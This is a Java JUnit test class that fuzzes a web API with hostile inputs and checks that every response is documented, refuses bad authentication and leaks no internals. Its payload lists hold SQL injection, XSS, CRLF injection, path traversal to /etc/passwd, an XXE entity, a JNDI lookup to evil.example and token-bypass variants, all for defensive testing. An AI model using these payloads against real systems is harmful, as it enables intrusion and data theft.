// SPDX-License-Identifier: Apache-2.0
package org.hearsay.app.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.hearsay.app.PlainReader;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile input for every call that the description names, so that none can be forgotten: it is answered as described, or with a
 * problem document that tells nothing of the inside.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(60)
class ApiAttackTest {
    private static final List<String> HOSTILE = List.of(
            "' OR '1'='1",
            "1; DROP TABLE article; --",
            "x\" union select token from secret --",
            "%' ESCAPE '\\",
            "\" NEAR(\" AND NOT *",
            "<script>alert(1)</script>",
            "x\r\nSet-Cookie: harmed=1\r\n\r\n<html>",
            "\0",
            "x\0y",
            "\u0007\u001b[31m",
            "\u202egnihton\u2066",
            "\ud83d\ude00".repeat(200),
            "a\u0301".repeat(500),
            "x".repeat(3_000),
            "\"".repeat(999),
            "(".repeat(1_500),
            "-1",
            "0",
            "00",
            "1.5",
            "1e309",
            "999999999999999999",
            "9223372036854775808",
            "9".repeat(400),
            "NaN",
            "null",
            "true",
            "[]",
            "{\"$gt\": 0}",
            "2024-02-30",
            "9999-99",
            "../../../../etc/passwd",
            "..\\..\\windows",
            "${jndi:ldap://evil.example/x}",
            "{0} {1,number} '",
            "#{7*7}{{7*7}}",
            "_%_%",
            "٣",
            "1-1-s1' --",
            "999999999-1-s1");

    /** As they stand in an address, where no text is encoded so. */
    private static final List<String> UNENCODED = List.of(
            "%FF%FE", "%ED%A0%80", "%C0%AE%C0%AE", "%00", "%", "%zz", "%u0041", "%2e%2e", "%2F", "%5C", ";x=1", "%3Bx");

    private static final String LEAK =
            "(?s).*(Exception|\\bat org\\.|\\bat java|org\\.hearsay|io\\.javalin|jackson|SQLITE|sqlite|JDBC|jdbc:|SELECT |\\.java:|served\\.db).*";

    private final OpenApi description = new OpenApi();
    private Served served;

    @BeforeAll
    void start(@TempDir Path folder) throws IOException {
        served = Served.forPrograms(folder, () -> new PlainReader()::read);
    }

    @AfterAll
    void stop() {
        served.close();
    }

    private Stream<OpenApi.Operation> operations() {
        return description.operations().stream();
    }

    private Stream<OpenApi.Operation> writing() {
        return operations().filter(OpenApi.Operation::isWriting);
    }

    /** It was answered as described, or refused as described. */
    private void holds(OpenApi.Operation operation, String attack, HttpResponse<String> answer) {
        String what = operation + " with " + (attack.length() > 80 ? attack.substring(0, 80) + "…" : attack) + ": "
                + answer.statusCode() + " " + answer.body();
        assertThat(answer.headers().firstValue("Set-Cookie")).as(what).isEmpty();
        assertThat(answer.headers().firstValue("X-Content-Type-Options"))
                .as(what)
                .contains("nosniff");
        if (answer.statusCode() == 304) {
            return;
        }
        if (answer.statusCode() == 200) {
            assertThat(answer.headers().firstValue("Content-Type").orElseThrow())
                    .as(what)
                    .startsWith("application/json");
            assertThat(description.errors(operation, answer.body())).as(what).isEmpty();
            return;
        }
        assertThat(answer.statusCode()).as(what).isIn(400, 401, 403, 404, 405, 409, 413, 414, 415, 422, 431);
        isProblem(what, answer);
    }

    private void isProblem(String what, HttpResponse<String> answer) {
        assertThat(answer.headers().firstValue("Content-Type")).as(what).contains("application/problem+json");
        assertThat(description.problemErrors(answer.body())).as(what).isEmpty();
        JsonNode detail = problem(answer.body());
        assertThat(detail.get("status").asInt()).as(what).isEqualTo(answer.statusCode());
        assertThat(detail.get("detail").asText()).as(what).isNotBlank().doesNotMatch(LEAK);
    }

    private static JsonNode problem(String body) {
        try {
            return OpenApi.MAPPER.readTree(body);
        } catch (IOException e) {
            throw new AssertionError(body, e);
        }
    }

    @ParameterizedTest
    @MethodSource("operations")
    void everyParameterTakesAnything(OpenApi.Operation operation) throws IOException, InterruptedException {
        List<OpenApi.Parameter> parameters = new ArrayList<>(operation.parameters());
        for (OpenApi.Parameter parameter : parameters) {
            if (parameter.in().equals("header")) {
                for (String attack : HOSTILE) {
                    if (attack.chars().allMatch(c -> c >= ' ' && c < 127)) {
                        holds(operation, attack, served.get(operation.address(), parameter.name(), attack));
                    }
                }
                continue;
            }
            for (String attack : HOSTILE) {
                holds(operation, attack, served.get(operation.address(parameter.name(), Query.encoded(attack))));
            }
            holds(
                    operation,
                    "nothing",
                    served.get(
                            operation.address(parameter.name(), parameter.in().equals("path") ? "%20" : "")));
            for (String attack : UNENCODED) {
                raw(operation, operation.address(parameter.name(), attack));
            }
        }
    }

    /** By a socket, for no client would send it. */
    private void raw(OpenApi.Operation operation, String address) throws IOException {
        String answer = served.rawAnswer(operation.method() + " " + address + " HTTP/1.1\r\nHost: 127.0.0.1:"
                + served.port() + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        String what = address + "\n" + answer;
        assertThat(answer).as(what).matches("(?s)HTTP/1.1 (200|4\\d\\d) .*");
        if (!answer.startsWith("HTTP/1.1 200")) {
            String body = answer.replaceFirst("(?s).*?\r\n\r\n", "");
            assertThat(answer).as(what).containsIgnoringCase("content-type: application/problem+json");
            assertThat(description.problemErrors(body)).as(what).isEmpty();
            assertThat(problem(body).get("detail").asText()).as(what).doesNotMatch(LEAK);
        }
    }

    @ParameterizedTest
    @MethodSource("operations")
    void whatACallDoesNotKnowIsRefused(OpenApi.Operation operation) throws IOException, InterruptedException {
        if (operation.isWriting()) {
            return;
        }
        String address = operation.address() + (operation.address().contains("?") ? "&" : "?");
        for (String more : List.of(
                "unknown=1",
                "__proto__=1",
                "access_token=" + Served.TOKEN,
                Query.encoded("<b>") + "=1",
                "=",
                "as=csv")) {
            HttpResponse<String> answer = served.get(address + more);
            assertThat(answer.statusCode()).as(more).isEqualTo(400);
            holds(operation, more, answer);
        }
        for (OpenApi.Parameter parameter : operation.parameters()) {
            if (parameter.in().equals("query")) {
                HttpResponse<String> twice =
                        served.get(operation.address(parameter.name(), "1") + "&" + parameter.name() + "=1");
                assertThat(twice.statusCode()).isEqualTo(400);
                holds(operation, "twice", twice);
            }
        }
        holds(
                operation,
                "a body that nobody asked for",
                served.send(
                        operation.address(),
                        "GET",
                        "[".repeat(100_000).getBytes(StandardCharsets.UTF_8),
                        "Content-Type",
                        "application/json"));
    }

    @ParameterizedTest
    @MethodSource("operations")
    void otherMethodsAreRefused(OpenApi.Operation operation) throws IOException, InterruptedException {
        for (String method : List.of(
                "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY", "PROPFIND", operation.isWriting() ? "GET" : "POST")) {
            for (String token : List.of("", "Bearer " + Served.TOKEN)) {
                HttpResponse<String> answer = token.isEmpty()
                        ? served.send(operation.address(), method, new byte[0])
                        : served.send(operation.address(), method, new byte[0], "Authorization", token);
                assertThat(answer.statusCode()).as(method).isIn(401, 404, 405, 501);
                isProblem(method + " " + operation.address(), answer);
                assertThat(answer.headers().map().keySet().toString())
                        .as("CORS")
                        .doesNotContainIgnoringCase("access-control");
                if (answer.statusCode() == 405) {
                    assertThat(answer.headers().firstValue("Allow").orElseThrow())
                            .contains(operation.method());
                }
            }
        }
    }

    @ParameterizedTest
    @MethodSource("writing")
    void whoeverDoesNotBearTheTokenIsRefused(OpenApi.Operation operation) throws IOException, InterruptedException {
        byte[] body = usual(operation).toString().getBytes(StandardCharsets.UTF_8);
        assertThat(served.json(operation.address(), usual(operation).toString()).statusCode())
                .isIn(200, 404, 409);
        for (String authorization : List.of(
                "",
                "Bearer",
                "Bearer ",
                "Bearer x",
                "Bearer " + Served.TOKEN + "x",
                "Bearer x" + Served.TOKEN,
                "Bearer " + Served.TOKEN.substring(1),
                "Bearer " + Served.TOKEN.toUpperCase(Locale.ROOT),
                "Bearer " + Served.TOKEN + " " + Served.TOKEN,
                "Bearer " + Served.TOKEN + ", Bearer " + Served.TOKEN,
                "Token " + Served.TOKEN,
                Served.TOKEN,
                "Basic " + Base64.getEncoder().encodeToString(("x:" + Served.TOKEN).getBytes(StandardCharsets.UTF_8)),
                "Bearer " + "x".repeat(5_000),
                "Bearer ' OR 1=1")) {
            HttpResponse<String> answer = served.send(
                    operation.address(),
                    "POST",
                    body,
                    "Content-Type",
                    "application/json",
                    "Authorization",
                    authorization);
            assertThat(answer.statusCode()).as(authorization).isEqualTo(401);
            assertThat(answer.headers().firstValue("WWW-Authenticate").orElseThrow())
                    .startsWith("Bearer");
            holds(operation, authorization, answer);
        }
        for (String[] site : new String[][] {
            {"Origin", "https://evil.example"},
            {"Origin", "null"},
            {"Sec-Fetch-Site", "cross-site"},
            {"Sec-Fetch-Site", "same-site"}
        }) {
            HttpResponse<String> answer = served.send(
                    operation.address(),
                    "POST",
                    body,
                    "Content-Type",
                    "application/json",
                    "Authorization",
                    "Bearer " + Served.TOKEN,
                    site[0],
                    site[1]);
            assertThat(answer.statusCode()).as(site[1]).isEqualTo(403);
            holds(operation, site[1], answer);
        }
        HttpResponse<String> form =
                served.post(operation.address(), new String[0], "token", served.token(), "text", "x");
        assertThat(form.statusCode()).as("the token of forms").isEqualTo(401);
        holds(operation, "form", form);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/%61pi/read",
                "//api/read",
                "/api//read",
                "/api/./read",
                "/x/../api/read",
                "/api/read/",
                "/API/read",
                "/api/read;x=1",
                "/api/../read",
                "/api/..;/read"
            })
    void noOtherWayOfWritingAnAddressLeadsAroundTheToken(String path) throws IOException {
        String answer = served.rawAnswer(
                "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + served.port()
                        + "\r\nContent-Type: application/json\r\nContent-Length: 13\r\nConnection: close\r\n\r\n{\"text\": \"x\"}");
        assertThat(answer).matches("(?s)HTTP/1.1 4\\d\\d .*").doesNotContain("\"statements\":");
    }

    @ParameterizedTest
    @MethodSource("writing")
    void anyBodyIsTaken(OpenApi.Operation operation) throws IOException, InterruptedException {
        String usual = usual(operation).toString();
        for (String body : List.of(
                "",
                " ",
                "null",
                "true",
                "1",
                "\"text\"",
                "[]",
                "{}",
                "{",
                "}",
                "{\"text\":",
                "{\"text\": \"x\"",
                "{'text': 'x'}",
                "{text: 1}",
                "{\"text\": NaN}",
                "{\"text\": 1e999999999}",
                "{\"text\": " + "9".repeat(100_000) + "}",
                "{\"text\": \"\\ud800\"}",
                "{\"text\": \"x\\u0000y\"}",
                "{\"text\": \"\0\"}",
                "{\"text\": \"x\", \"text\": \"y\"}",
                "{\"" + "k".repeat(100_000) + "\": 1}",
                "{\"__proto__\": {\"text\": \"x\"}}",
                "/* x */ " + usual,
                usual + usual,
                usual + "x",
                "\ufeff" + usual,
                "[".repeat(100_000),
                "{\"articles\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}",
                "{\"text\":".repeat(100_000),
                "{\"articles\": [" + "{},".repeat(50_000) + "{}]}",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "token=x&text=y")) {
            HttpResponse<String> answer = served.json(operation.address(), body);
            holds(operation, body, answer);
            if (!body.equals("{}") || !operation.body().equals("Nothing")) {
                assertThat(answer.statusCode())
                        .as(body.length() > 80 ? body.substring(0, 80) : body)
                        .isIn(400, 422);
            }
        }
        for (byte[] body : List.of(
                new byte[] {'{', '"', (byte) 0xff, '"', ':', '1', '}'},
                "{\"text\": \"\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1),
                usual.getBytes(StandardCharsets.UTF_16),
                usual.getBytes(StandardCharsets.UTF_16LE),
                new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
                new byte[1_000])) {
            HttpResponse<String> answer = sent(operation, body, "application/json");
            holds(operation, "bytes", answer);
            assertThat(answer.statusCode()).isEqualTo(400);
        }
        for (String type : List.of(
                "text/plain",
                "text/html",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/json; charset=utf-16",
                "application/jsonx",
                "application/json, text/plain",
                "x".repeat(2_000),
                "/",
                "")) {
            HttpResponse<String> answer = sent(operation, usual.getBytes(StandardCharsets.UTF_8), type);
            holds(operation, type, answer);
            assertThat(answer.statusCode()).as(type).isEqualTo(415);
        }
        assertThat(sent(operation, usual.getBytes(StandardCharsets.UTF_8), "application/json; charset=UTF-8")
                        .statusCode())
                .isIn(200, 409);
    }

    private HttpResponse<String> sent(OpenApi.Operation operation, byte[] body, String type)
            throws IOException, InterruptedException {
        return served.send(
                operation.address(), "POST", body, "Content-Type", type, "Authorization", "Bearer " + Served.TOKEN);
    }

    @ParameterizedTest
    @MethodSource("writing")
    void tenMegabytesAreRefused(OpenApi.Operation operation) throws IOException, InterruptedException {
        byte[] large = "x".repeat(10_000_000).getBytes(StandardCharsets.UTF_8);
        HttpResponse<String> whole = sent(operation, large, "application/json");
        assertThat(whole.statusCode()).isEqualTo(413);
        holds(operation, "10 MB", whole);
        // Of unknown length.
        HttpResponse<String> chunked = HttpClient.newHttpClient()
                .send(
                        HttpRequest.newBuilder(URI.create(served.address(operation.address())))
                                .header("Content-Type", "application/json")
                                .header("Authorization", "Bearer " + Served.TOKEN)
                                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(large)))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
        assertThat(chunked.statusCode()).isEqualTo(413);
        holds(operation, "10 MB in chunks", chunked);
    }

    /** A request that is answered. */
    private ObjectNode usual(OpenApi.Operation operation) {
        ObjectNode article = OpenApi.MAPPER.createObjectNode();
        article.put("text", "Bridge shut\n\n“We will not gamble with lives,” said Ruth Ostrander.");
        if (operation.body().equals("ReadRequest")) {
            return article;
        }
        ObjectNode request = OpenApi.MAPPER.createObjectNode();
        if (operation.body().equals("CorrectionRequest")) {
            request.put("statement", "s1");
            request.putObject("source").put("start", 0).put("end", 3);
            request.putObject("cue").put("start", 4).put("end", 9);
            request.putArray("content").addObject().put("start", 10).put("end", 20);
            return request;
        }
        switch (operation.body()) {
            case "Nothing" -> {
                return request;
            }
            case "MergeRequest" -> {
                return request.put("other", 2);
            }
            case "SplitRequest" -> {
                request.putArray("articles").add(2);
                return request;
            }
            default -> {
                // Articles, below.
            }
        }
        ArrayNode articles = request.putArray("articles");
        articles.add(article);
        articles.add(article.deepCopy());
        return request;
    }

    @ParameterizedTest
    @MethodSource("writing")
    void everyFieldTakesAnything(OpenApi.Operation operation) throws IOException, InterruptedException {
        List<JsonNode> values = new ArrayList<>();
        HOSTILE.forEach(attack -> values.add(OpenApi.MAPPER.getNodeFactory().textNode(attack)));
        for (String json : List.of(
                "1",
                "-1",
                "1.5",
                "1e300",
                "99999999999999999999999999",
                "true",
                "null",
                "[]",
                "{}",
                "[\"x\"]",
                "{\"text\": \"x\"}",
                "[[[[[[[[[[]]]]]]]]]]",
                "\"\\ud800\"",
                "\"\\ufffe\"")) {
            values.add(OpenApi.MAPPER.readTree(json));
        }
        JsonNode schema = description.json().at("/components/schemas/" + operation.body());
        List<String> fields = new ArrayList<>();
        fields(schema, "", fields);
        assertThat(fields)
                .hasSizeGreaterThan(
                        List.of("Nothing", "MergeRequest", "SplitRequest").contains(operation.body()) ? -1 : 4);
        for (String field : fields) {
            for (JsonNode value : values) {
                ObjectNode request = usual(operation);
                put(request, field, value);
                HttpResponse<String> answer = served.json(operation.address(), request.toString());
                holds(operation, field + ": " + value, answer);
                if (!value.isNull() && !description.isRequest(operation, request)) {
                    assertThat(answer.statusCode()).as(field + ": " + value).isEqualTo(400);
                }
            }
        }
    }

    /** The fields of a request, as pointers; of arrays the first. */
    private void fields(JsonNode schema, String path, List<String> fields) {
        schema.path("properties").properties().forEach(property -> {
            String field = path + "/" + property.getKey();
            fields.add(field);
            fields(property.getValue(), field, fields);
            if (property.getValue().has("items")) {
                fields.add(field + "/0");
                fields(property.getValue().get("items"), field + "/0", fields);
            }
        });
    }

    private static void put(ObjectNode request, String field, JsonNode value) {
        List<String> keys = new ArrayList<>(Arrays.asList(field.substring(1).split("/")));
        String last = keys.removeLast();
        JsonNode parent = request;
        for (String key : keys) {
            parent = parent.isArray() ? parent.get(Integer.parseInt(key)) : parent.get(key);
        }
        if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        } else {
            ObjectNode object = (ObjectNode) parent;
            if (!last.equals("text") && List.of("html", "url").contains(last)) {
                object.remove("text");
            }
            object.set(last, value);
        }
    }

    @Test
    void whatIsNowhereIsAProblem() throws IOException, InterruptedException {
        for (String path : List.of(
                "/api/nothing", "/api/articles", "/api/articles/1/2/3", "/api/../api/nothing", "/api/stories/1/x")) {
            HttpResponse<String> answer = served.get(path);
            assertThat(answer.statusCode()).as(path).isIn(400, 404);
            isProblem(path, answer);
            isProblem(path, served.get(path, "Accept", "text/html"));
        }
        HttpResponse<String> page = served.get("/nothing", "Accept", "text/html");
        assertThat(page.statusCode()).isEqualTo(404);
        assertThat(page.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/html");
    }

    @Test
    void anAddressThatIsTooLongIsAProblem() throws IOException, InterruptedException {
        HttpResponse<String> answer = served.get("/api/search?q=" + "x".repeat(50_000));
        assertThat(answer.statusCode()).isIn(414, 431);
        isProblem("too long", answer);
        HttpResponse<String> page = served.get("/search?q=" + "x".repeat(50_000), "Accept", "text/html");
        assertThat(page.statusCode()).isIn(414, 431);
        assertThat(page.body()).doesNotMatch(LEAK);
    }

    @Test
    void anotherNameOfTheServerIsAProblem() throws IOException {
        String answer =
                served.rawAnswer("GET /api/stories HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 403").contains("application/problem+json");
    }

    @Test
    void anErrorOfOursTellsNothingOfTheInside(@TempDir Path folder) throws IOException, InterruptedException {
        try (Served broken = Served.forPrograms(folder, () -> page -> {
            throw new IllegalStateException("the secret of org.hearsay at /etc/secret");
        })) {
            HttpResponse<String> answer = broken.json("/api/read", "{\"text\": \"x\"}");
            assertThat(answer.statusCode()).isEqualTo(500);
            isProblem("an error", answer);
            assertThat(answer.body()).doesNotContain("secret");
            broken.archive().close();
            HttpResponse<String> gone = broken.get("/api/stories");
            assertThat(gone.statusCode()).isIn(500, 503);
            isProblem("no archive", gone);
        }
    }

    @Test
    void aReaderThatFallsDeepIsAProblem(@TempDir Path folder) throws IOException, InterruptedException {
        try (Served broken = Served.forPrograms(folder, () -> page -> {
            throw new StackOverflowError();
        })) {
            HttpResponse<String> answer = broken.json("/api/read", "{\"text\": \"x\"}");
            assertThat(answer.statusCode()).isEqualTo(500);
            isProblem("an error", answer);
        }
    }
}
